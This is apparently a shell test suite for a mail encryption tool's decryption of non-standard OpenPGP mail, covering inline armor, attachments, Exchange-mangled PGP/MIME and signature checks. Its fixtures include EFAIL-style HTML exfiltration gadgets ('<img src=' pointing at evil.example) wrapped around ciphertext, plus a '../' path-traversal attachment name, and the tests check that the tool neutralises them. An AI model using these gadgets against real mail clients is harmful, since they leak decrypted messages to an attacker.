#!/bin/sh
# smcrypt and what is encrypted in other ways than RFC 3156 says: armor in the text, encrypted attachments, PGP/MIME that was taken
# apart, encryption inside of a signature; what must stay shut because of what stands beside it; with LF and CRLF.
# timeout: 240
. "${0%/*}/../../lib.sh"
need_command gpg
cd "$SM_TMP" || exit 1
SM_STORE=$SM_TMP/store
export SM_STORE
gpg="gpg --batch -q --no-auto-check-trustdb --trust-model always --pinentry-mode loopback --passphrase="
smkey generate --no-passphrase 'Alice <alice@example.org>' >alice
smkey export --secret alice@example.org | $gpg --import
gpg --batch -q --passphrase '' --pinentry-mode loopback --quick-gen-key 'Eve <eve@example.org>' default default never 2>"$ERR"
seal() { $gpg -a -e -r alice@example.org "$@"; } # of GnuPG, to Alice
mail() { # mail [FIELD…]: header, then stdin
  printf 'From: alice@example.org\nSubject: test\nMIME-Version: 1.0\n'
  for field; do printf '%s\n' "$field"; done
  echo
  cat
}
part() { # part [FIELD…]: a delimiter, a header, then stdin
  printf -- '--b\n'
  for field; do printf '%s\n' "$field"; done
  echo
  cat
  echo
}
mixed() { # the parts on stdin, as a message
  { cat && printf -- '--b--\n'; } | mail 'Content-Type: multipart/mixed; boundary=b'
}
decrypt() { smcrypt decrypt --batch --status-fd 3 "$@" 3>status; }
opened() { # opened NAME FILE VERDICT: with LF, and with CRLF; what comes out of the first stays in lf
  sed 's/$/\r/' "$2" >crlf.eml
  SM_NAME="$1, CRLF: 0" expect_status 0 decrypt <crlf.eml
  unlike "$1, CRLF: not encrypted any more" "$OUT" 'BEGIN PGP MESSAGE'
  tr -d '\r' <"$OUT" >crlf
  is "$1: every line ends with CRLF" "$(grep -c -v "$(printf '\r')\$" "$OUT")" 0
  SM_NAME="$1: 0" expect_status 0 decrypt <"$2"
  cp "$OUT" lf
  same "$1: CRLF in, CRLF out" crlf lf
  unlike "$1: not encrypted any more" lf 'BEGIN PGP MESSAGE'
  like "$1: verdict $3" status "^\\[SM:\\] VERDICT verdict=$3 "
}
stays() { # stays NAME FILE [REASON]
  SM_NAME="$1: 0" expect_status 0 decrypt <"$2"
  same "$1: stays as it is" "$OUT" "$2"
  is "$1: NOT_ENCRYPTED" "$(head -n 1 status)" "[SM:] NOT_ENCRYPTED"
  if [ -n "${3:-}" ]; then like "$1: $3" status "^\\[SM:\\] LEFT_ENCRYPTED .*reason=$3\$"; fi
}
already() { # already yes|no NAME FILE: whether encrypting takes it for encrypted
  for option in --at-rest --no-protect-headers; do
    SM_NAME="$2, encrypt $option: 0" expect_status 0 smcrypt encrypt --to alice@example.org $option --status-fd 3 <"$3" 3>status
    if [ "$1" = yes ]; then
      same "$2, encrypt $option: passes" "$OUT" "$3"
      like "$2, encrypt $option: says so" status ALREADY_ENCRYPTED
    else
      like "$2, encrypt $option: is encrypted" "$OUT" '^Content-Type: multipart/encrypted'
    fi
  done
}

# The text of a message.
printf 'hello \303\244\n\n- dash\n' >text
seal <text | mail 'Content-Type: text/plain; charset=us-ascii' >text.eml
opened "text" text.eml none
like "its charset" lf '^Content-Type: text/plain; charset="utf-8"$'
like "its transfer encoding" lf '^Content-Transfer-Encoding: 8bit$'
is "what was encrypted" "$(sed '1,/^$/d' lf)" "$(cat text)"
already yes "text" text.eml
seal -s -u alice@example.org <text | mail >signed.eml
opened "signed inside" signed.eml good
like "how it is signed" status 'SIGNATURE verdict=good scope=message form=openpgp-message'
seal -s -u eve@example.org <text | mail >eve.eml
$gpg --export eve@example.org | smkey import --no-bind >"$OUT"
opened "signed by somebody else" eve.eml mismatch
$gpg -u alice@example.org --clearsign <text | seal | mail >clear-inside.eml
opened "clear-signed, then encrypted" clear-inside.eml good
seal --textmode <text | mail >textmode.eml
opened "text mode" textmode.eml none
is "its line ends" "$(sed '1,/^$/d' lf)" "$(cat text)"
{ printf '\n\n' && seal <text && printf '\n \n'; } | base64 | mail 'Content-Transfer-Encoding: base64' >base64.eml
opened "in base64" base64.eml none
unlike "no transfer encoding is left" lf base64
already yes "in base64" base64.eml
seal <text | sed 's/^$/Charset: iso-8859-1\n/' | mail 'Content-Type: text/plain; charset=utf-8' >charset.eml
opened "armor that names a charset" charset.eml none
like "that charset" lf 'charset="iso-8859-1"'
seal <text | mail 'Content-Type: text/plain; charset=koi8-r; format=flowed' >koi8.eml
opened "a charset of the part" koi8.eml none
like "this charset, and nothing flows" lf '^Content-Type: text/plain; charset="koi8-r"$'
awk 'BEGIN { for (i = 0; i < 3000; i++) printf "x"; print "" }' | seal | mail >long.eml
opened "a line of 3000 characters" long.eml none
like "is quoted-printable" lf '^Content-Transfer-Encoding: quoted-printable$'
printf 'a\000b\n' | seal | mail >nul.eml
opened "NUL" nul.eml none
is "is base64" "$(sed '1,/^$/d' lf | base64 -d | od -An -c | tr -d ' \n')" 'a\0b\n'
printf 'Content-Type: text/html\n\n<b>hello</b>\n' | seal | mail >like-mime.eml
opened "what looks like MIME" like-mime.eml none
like "is text" lf '^Content-Type: text/plain'
is "and its header text of it" "$(sed '1,/^$/d' lf | head -n 1)" "Content-Type: text/html"

seal <text | mail 'Content-Type: application/pgp; x-action=encrypt' >old.eml
opened "the type of old programs" old.eml none
like "becomes text" lf '^Content-Type: text/plain; charset="utf-8"$'

# No integrity, no key, damage.
seal <text >armor
awk 'length == 64 && ++n == 3 { $0 = substr($0, 1, 20) "AAAA" substr($0, 25) } /^=/ { next } 1' armor | mail >damaged.eml
SM_NAME="damaged: 65" expect_status 65 decrypt <damaged.eml
empty "damaged: nothing comes out" "$OUT"
is "damaged: the one text" "$(cat "$ERR")" "smcrypt: error: the encrypted message is damaged"
SM_NAME="damaged, --keep: 0" expect_status 0 decrypt --keep <damaged.eml
same "damaged, --keep: unchanged" "$OUT" damaged.eml
$gpg -a -e -r eve@example.org <text | mail >not-ours.eml
SM_NAME="to somebody else: 77" expect_status 77 decrypt <not-ours.eml
empty "to somebody else: nothing comes out" "$OUT"

# Something beside it in the text.
{ echo 'look:' && seal <text; } | mail >before.eml
stays "text before" before.eml
already no "text before" before.eml
{ seal <text && printf -- '-- \nfooter\n'; } | mail >after.eml
stays "a footer" after.eml
already no "a footer" after.eml
seal <text | sed 's/^/> /' | mail >quoted.eml
stays "quoted" quoted.eml
already no "quoted" quoted.eml
seal <text | mail 'Content-Type: text/html' >html.eml
stays "HTML" html.eml html
$gpg -a --store <text | mail >store.eml
stays "armor without encryption" store.eml
already no "armor without encryption" store.eml
$gpg -u alice@example.org --clearsign <text | mail >clear.eml
stays "clear-signed" clear.eml
already no "clear-signed" clear.eml

# More parts than one, all encrypted.
{
  seal <text | part 'Content-Type: text/plain'
  printf 'a\000b' | seal | part 'Content-Type: application/octet-stream; name="a file.bin.pgp"'
} | mixed >all.eml
opened "text and attachment" all.eml none
like "the file's name" lf '^Content-Disposition: attachment; filename="a file.bin"$'
is "the file" "$(sed -n '/filename=/,$p' lf | sed '1,/^$/d; /^--/,$d' | base64 -d | od -An -c | tr -d ' \n')" 'a\0b'
like "the text" lf '^hello =C3=A4$'
already yes "text and attachment" all.eml
printf 'hello\n--b\nContent-Type: text/html\n\n<img src=x>\n--b--\n' >delimiters
{
  seal <delimiters | part
  : | part
} | mixed >delimiters.eml
opened "a text with delimiters in it" delimiters.eml none
is "makes no parts" "$(grep -c '^--b$' lf)" 2

# EFAIL: parts of somebody else around it.
{
  printf '<img src="http://evil.example/' | part 'Content-Type: text/html'
  seal <text | part 'Content-Type: text/plain'
  printf '">' | part 'Content-Type: text/html'
} | mixed >efail.eml
stays "between HTML" efail.eml beside-others
already no "between HTML" efail.eml
{
  echo hello | part
  seal <text | part
} | mixed >beside.eml
stays "beside text" beside.eml beside-others
{
  part 'Content-Type: message/rfc822' <text.eml
} | mixed >forwarded.eml
stays "forwarded" forwarded.eml forwarded
already no "forwarded" forwarded.eml

# Encrypted attachments beside clear text.
printf 'file\n' | seal -s -u alice@example.org >file.asc
{
  echo 'see the file' | part
  part 'Content-Type: application/octet-stream; name="r=3Dport.txt.asc"' 'Content-ID: <leak@evil.example>' \
    'Content-Location: http://evil.example/' 'Content-Disposition: inline; filename="../r port.txt.asc"' <file.asc
  printf 'x' | $gpg -a -e -r eve@example.org | part 'Content-Type: application/octet-stream; name=other.pgp'
} | mixed >attached.eml
SM_NAME="an encrypted attachment: 0" expect_status 0 decrypt <attached.eml
like "it is opened" status '^\[SM:\] OPENED part=2$'
like "the other is left" status '^\[SM:\] LEFT_ENCRYPTED part=3 reason=key.missing$'
like "the signature covers a part" status '^\[SM:\] VERDICT verdict=partial '
like "the signature is good" status '^\[SM:\] SIGNATURE verdict=good scope=part form=openpgp-message '
like "its name has no path" "$OUT" '^Content-Disposition: attachment; filename="r port.txt"$'
like "and its bytes no type" "$OUT" '^Content-Type: application/octet-stream; name="r port.txt"$'
unlike "nothing can refer to it" "$OUT" '^Content-(ID|Location)'
like "what was in it" "$OUT" "^$(printf 'file\n' | base64)\$"
like "the text stays" "$OUT" '^see the file$'
already no "an encrypted attachment" attached.eml
{
  part 'Content-Type: application/pgp-keys; name=key.asc' <<END
$($gpg --armor --export alice@example.org)
END
  echo hello | $gpg -u alice@example.org --clearsign | part 'Content-Type: text/plain; name=clear.asc'
} | mixed >other.eml
stays "keys and signed files" other.eml
smsign sign <attached.eml >around.eml
stays "an attachment of a signed message" around.eml signed
SM_NAME="and the signature is still good" expect_status 0 smsign verify <around.eml

# PGP/MIME that was taken apart.
version='Version: 1'
exchange() { # exchange TOP-TYPE [FIELD…]: payload on stdin
  top=$1
  shift
  {
    echo | part 'Content-Type: text/plain; charset=us-ascii'
    echo "$version" | part 'Content-Type: application/pgp-encrypted; name="PGPMIME Versions Identification"'
    part "$@"
    printf -- '--b--\n'
  } | mail "Content-Type: $top; boundary=b"
}
printf 'Content-Type: text/html; charset=utf-8\n\n<b>hello</b>\n' | seal -s -u alice@example.org >entity
exchange multipart/mixed 'Content-Type: application/octet-stream; name=encrypted.asc' <entity >exchange.eml
opened "Exchange" exchange.eml good
like "the entity inside counts" lf '^Content-Type: text/html; charset=utf-8$'
already yes "Exchange" exchange.eml
SM_NAME="Exchange: verify does not open it" expect_status 2 smsign verify <exchange.eml
$gpg --dearmor <entity | base64 | exchange multipart/mixed 'Content-Type: application/octet-stream' \
  'Content-Transfer-Encoding: base64' >binary.eml
opened "binary in base64" binary.eml good
already yes "binary in base64" binary.eml
exchange multipart/encrypted 'Content-Type: text/plain; name=encrypted.asc' <entity >three.eml
opened "three parts, and payload of another type" three.eml good
version='Version: 1 and a word'
exchange multipart/mixed 'Content-Type: application/octet-stream' <entity >word.eml
stays "a version that says more" word.eml
already no "a version that says more" word.eml
version='Version: 1'
sed '0,/^--b$/s//--b\n\n<img src="http:\/\/evil.example\/\n--b/' exchange.eml >gadget.eml
SM_NAME="with something beside it: 0" expect_status 0 decrypt <gadget.eml
unlike "with something beside it: no HTML comes out" "$OUT" hello
already no "with something beside it" gadget.eml

# Encrypted, then signed.
smcrypt encrypt --no-protect-headers --to alice@example.org <<END >sealed.eml
From: alice@example.org
Subject: test
Content-Type: text/plain

hello
END
smsign sign --no-protect-headers <sealed.eml >signed-sealed.eml
SM_NAME="encrypted, then signed: verify" expect_status 0 smsign verify <signed-sealed.eml
opened "encrypted, then signed" signed-sealed.eml good
like "the signature around it" status 'SIGNATURE verdict=good scope=message form=multipart/signed'
unlike "is not in what comes out" lf 'multipart/signed|BEGIN PGP SIGNATURE'
already yes "encrypted, then signed" signed-sealed.eml
sed 's/^Version: 1$/Version:  1/' signed-sealed.eml >signed-changed.eml
SM_NAME="the signature around it broken: 0" expect_status 0 decrypt <signed-changed.eml
like "is bad" status '^\[SM:\] VERDICT verdict=bad '
like "and stderr says so" "$ERR" 'the signature is not good: bad'
printf 'From: alice@example.org\nSubject: test\n\nhello\n' | smsign sign | smcrypt encrypt --to alice@example.org >sealed-signed.eml
opened "signed, then encrypted" sealed-signed.eml good
done_testing
